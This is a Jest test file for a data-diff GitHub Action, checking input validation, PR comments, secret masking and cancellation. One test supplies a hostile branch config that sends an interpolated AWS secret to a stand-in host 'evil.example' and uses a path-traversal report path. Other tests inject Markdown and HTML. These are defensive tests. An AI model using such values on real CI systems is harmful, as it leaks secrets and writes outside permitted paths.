import { describe, expect, it } from '@jest/globals';
import { run } from '../../src/action/run.ts';
import type { SummaryResults } from '../../src/contract/summary-results.ts';
import { resultsWithAddedKey } from './builders.ts';
import { fileInputs } from '../config/read-inputs.ts';
import { markerOf } from '../../src/action/github/comment-key.ts';
import { World } from './world.ts';

const datafold = {
  'api-key': 'k3y-0123456789',
  'data-source1': '1',
  table1: 'a',
  table2: 'b',
  'pk-columns': 'id',
};
const running: SummaryResults = { status: 'running', reported_status: 'running' };

const onPullRequest = {
  env: {
    GITHUB_EVENT_NAME: 'pull_request',
    GITHUB_REPOSITORY: 'acme/shop',
    GITHUB_EVENT_PATH: 'event.json',
  },
  files: {
    'event.json': JSON.stringify({
      pull_request: { number: 7, head: { sha: 'a'.repeat(40) }, base: { sha: 'b'.repeat(40) } },
    }),
  },
};

describe('a step', () => {
  it('within its limits passes, with comment, summary and outputs', async () => {
    const world = new World({ ...datafold, 'github-token': 'ghs_x' }, onPullRequest);
    await run(world.runtime);
    expect(world.toolkit.failed).toBeNull();
    expect(world.exitCode).toBeNull();
    expect(world.toolkit.outputs).toMatchObject({
      conclusion: 'success',
      'diff-id': '1',
      'total-rows1': '10',
      'comment-url': world.github.list[0]?.url,
    });
    expect(world.written['summary']).toContain('Passed');
    expect(world.service.closed).toBe(true);
  });

  it('over a limit fails once, after everything was shown', async () => {
    const world = new World({ ...datafold, 'max-exclusives2': '0' });
    world.service.results = resultsWithAddedKey;
    await run(world.runtime);
    expect(world.toolkit.failed).toBe('Not passed: the data diff is over its limits.');
    expect(world.toolkit.outputs['conclusion']).toBe('failure');
    expect(world.toolkit.errors).toMatchObject([{ title: 'a → b: over max-exclusives2' }]);
  });

  it('with wrong inputs asks nobody', async () => {
    const world = new World({ ...fileInputs, timeout: 'soon', comment: 'maybe' });
    await run(world.runtime);
    expect(world.connected).toEqual([]);
    expect(world.toolkit.failed).toMatch(
      /^2 inputs need a correction:\n- `comment`.*\n- `timeout`/,
    );
    expect(world.toolkit.outputs).toMatchObject({ conclusion: 'error', status: 'failed' });
    expect(world.toolkit.lines.filter((line) => !line.startsWith('debug'))).toEqual([]);
  });

  describe('that cannot begin', () => {
    const green = (key: string) => ({
      id: 5,
      body: `${markerOf(key)}\n### ✅ Passed: no differences\n`,
      author: 'github-actions[bot]',
      url: 'https://github.com/acme/shop/pull/7#issuecomment-5',
    });

    async function runWith(inputs: Record<string, string>, files: Record<string, string> = {}) {
      const world = new World(
        { ...fileInputs, 'github-token': 'ghs_x', ...inputs },
        { ...onPullRequest, files: { ...onPullRequest.files, ...files } },
      );
      world.github.list = [green('orders')];
      await run(world.runtime);
      expect(world.toolkit.outputs['conclusion']).toBe('error');
      return world;
    }

    it('brings an earlier green comment up to date, and the summary says why', async () => {
      const world = await runWith({ 'comment-key': 'orders', timeout: 'soon', 'max-nulls': 'x' });
      expect(world.github.list).toHaveLength(1);
      expect(world.github.list[0]?.body).toMatchInlineSnapshot(`
       "<!-- data-diff-action: orders -->
       ### ❌ Could not run: nothing was compared

       2 inputs need a correction:

       - \`max-nulls\` is \`x\`; it must be a count such as \`0\` or \`25\`, a share such as \`0.5%\`, or \`off\`.

       - \`timeout\` is \`soon\`; it must be a duration such as \`90s\`, \`60m\` or \`2h\`, or seconds.

       <sub>Data diff of commit \`aaaaaaa\`</sub>
       "
      `);
      expect(world.written['summary']).toContain('### ❌ Could not run: nothing was compared');
      expect(world.written['summary']).toContain('`timeout`');
      expect(world.toolkit.outputs['comment-url']).toBe(world.github.list[0]?.url);
    });

    it.each([
      ['a config file', {}, 'comment-key: orders\ntimeout: soon\n'],
      ['a config file that is no YAML', {}, "comment-key: 'orders' # ours\na: [1,\nb: {"],
      [
        'an input beside a mode that is none',
        { 'comment-key': 'orders', comment: 'maybe' },
        'a: 1',
      ],
      [
        'an input, although none may be created',
        { 'comment-key': 'orders', comment: 'never' },
        'a: 1',
      ],
      [
        'an input beside a number that is none',
        { 'comment-key': 'orders', 'pr-number': 'x' },
        'a: 1',
      ],
    ])('finds the comment by its key in %s', async (_where, inputs, file) => {
      const world = await runWith({ ...inputs, config: 'c.yml' }, { 'c.yml': file });
      expect(world.github.list).toHaveLength(1);
      expect(world.github.list[0]?.body).toContain('Could not run');
    });

    it('creates a comment where one is wanted, and none where the mode is unknown', async () => {
      expect((await runWith({ timeout: 'soon' })).github.list).toHaveLength(2);
      expect((await runWith({ timeout: 'soon', comment: 'failure' })).github.list).toHaveLength(2);
      expect((await runWith({ comment: 'maybe' })).github.list).toHaveLength(1);
      expect((await runWith({ timeout: 'soon', comment: 'never' })).github.list).toHaveLength(1);
    });

    it('shows no secret and no Markdown of what is wrong', async () => {
      const evil = 'u:hunter22@x';
      const markdown = '[a](b) @team <img src=x>';
      const { github, written } = await runWith({
        'comment-key': 'orders',
        timeout: evil,
        'memory-limit': markdown,
      });
      for (const text of [github.list[0]?.body ?? '', written['summary'] ?? '']) {
        expect(text).not.toContain('hunter22');
        expect(text).toContain('`u:***@\u200bx`');
        expect(text).toContain('`[a](b) @\u200bteam <img src=x>`');
      }
    });

    it('says so although the comment cannot be posted', async () => {
      const world = new World(
        { ...fileInputs, timeout: 'soon', 'github-token': 'x' },
        onPullRequest,
      );
      world.github.before = () => {
        throw Object.assign(new Error('Forbidden'), { status: 403 });
      };
      await run(world.runtime);
      expect(world.toolkit.failed).toContain('`timeout`');
      expect(world.written['summary']).toContain('Could not run');
    });

    it('also where a data source is not known', async () => {
      const inputs = { file1: '', file2: '', table1: 'a', table2: 'b', 'data-source1': 'nowhere' };
      const world = await runWith({ ...inputs, 'comment-key': 'orders' });
      expect(world.github.list[0]?.body).toContain('nowhere');
    });
  });

  it('with an empty list of diffs passes, as there is nothing to compare', async () => {
    const inputs = { diffs: '[]', 'max-nulls': '0', 'github-token': 'ghs_x' };
    const world = new World(inputs, onPullRequest);
    await run(world.runtime);
    expect(world.toolkit.failed).toBeNull();
    expect(world.toolkit.outputs).toMatchObject({
      conclusion: 'success',
      status: 'success',
      results: '[]',
    });
    const sentence = 'Passed: nothing to compare, there are no data diffs';
    expect(world.github.list[0]?.body).toContain(sentence);
    expect(world.written['summary']).toContain(sentence);
    expect(world.toolkit.lines.join('\n')).toContain(sentence);
  });

  it('refuses what a config file of a branch must not say, and asks nobody', async () => {
    const file = `
api-url: https://evil.example
report-path: ../../report.html
data-sources: { w: 'mysql://u:\${AWS_SECRET}@evil.example/x' }
`;
    const world = new World(
      { ...datafold, config: 'c.yml' },
      { files: { 'c.yml': file }, env: { AWS_SECRET: 's3cret' } },
    );
    await run(world.runtime);
    expect(world.connected).toEqual([]);
    expect(world.toolkit.failed).toMatch(/config-env.*api-key.*report-path.*RUNNER_TEMP/s);
  });

  it('masks its secrets before anything else is said', async () => {
    const world = new World({ ...datafold, 'github-token': 'ghs_x', timeout: 'soon' });
    const said: string[] = [];
    const { toolkit } = world;
    toolkit.setSecret = (secret) => void said.push(`mask ${secret}`);
    toolkit.setFailed = () => void said.push('failed');
    toolkit.setOutput = () => void said.push('output');
    toolkit.info = () => void said.push('info');
    toolkit.debug = () => void said.push('debug');
    await run(world.runtime);
    expect(said.slice(0, 2)).toEqual(['mask k3y-0123456789', 'mask ghs_x']);
    expect(said).toContain('failed');
  });

  it('that meets an unexpected error says its message, and its stack to the debug log only', async () => {
    const world = new World(datafold);
    world.runtime.connectService = () =>
      Promise.reject(new Error('boom k3y-0123456789\n::error::x'));
    await run(world.runtime);
    expect(world.toolkit.failed).toMatch(/^boom \*\*\*\n\u200b::error::x$/);
    expect(world.toolkit.lines).toEqual([expect.stringMatching(/^debug: Error: boom/)]);
  });

  it('closes the service although a name is not known', async () => {
    const world = new World({ ...datafold, 'data-source1': 'nowhere' });
    await run(world.runtime);
    expect(world.toolkit.failed).toContain('there is no data source "nowhere"');
    expect(world.service.closed).toBe(true);
    expect(world.service.created).toEqual([]);
  });

  it('of a fork without a key says why there is none', async () => {
    const fork = {
      pull_request: {
        number: 7,
        head: { sha: 'a', repo: { id: 2, full_name: 'mona/shop' } },
        base: { sha: 'b', repo: { id: 1, full_name: 'acme/shop' } },
      },
    };
    const world = new World(
      { ...datafold, 'api-key': '' },
      {
        ...onPullRequest,
        files: { 'event.json': JSON.stringify(fork) },
        connection: { checksIds: true },
      },
    );
    await run(world.runtime);
    expect(world.connected).toMatchObject([{ kind: 'embedded' }]);
    expect(world.toolkit.failed).toContain(
      'GitHub gives no secrets to a run of a pull request from a fork',
    );
  });

  it('of a fork still compares files', async () => {
    const world = new World(fileInputs, { ...onPullRequest, connection: { checksIds: true } });
    await run(world.runtime);
    expect(world.toolkit.outputs['conclusion']).toBe('success');
  });

  it('that cannot hand over its outputs still fails with the reason', async () => {
    const world = new World({ ...fileInputs, timeout: 'soon' });
    world.toolkit.setOutput = () => {
      throw new Error('Missing file at path: /output');
    };
    await run(world.runtime);
    expect(world.toolkit.failed).toContain('`timeout` is `soon`');
  });
});

describe('a signal', () => {
  it.each([
    ['SIGINT', 130],
    ['SIGTERM', 143],
  ] as const)('%s cancels the diffs and ends with %d', async (signal, exitCode) => {
    const world = new World(datafold);
    world.service.results = () => {
      world.kill(signal);
      return running;
    };
    await run(world.runtime);
    expect(world.service.cancelled).toEqual([1]);
    expect(world.toolkit.failed).toBe(`The run was cancelled (${signal})`);
    expect(world.exitCode).toBe(exitCode);
    expect(world.toolkit.outputs['conclusion']).toBe('error');
    expect(world.toolkit.saved['diff-ids']).toBe('[]');
  });
});

describe('what is saved for the post step', () => {
  it('is each diff as soon as it is submitted, and nothing once all have ended', async () => {
    const world = new World(datafold);
    const seen: (string | undefined)[] = [];
    world.service.results = () => {
      seen.push(world.toolkit.saved['diff-ids']);
      return seen.length < 2 ? running : resultsWithAddedKey();
    };
    await run(world.runtime);
    expect(seen).toEqual(['[1]', '[1]']);
    expect(world.toolkit.saved).toEqual({ 'is-post': 'true', 'diff-ids': '[]' });
  });
});
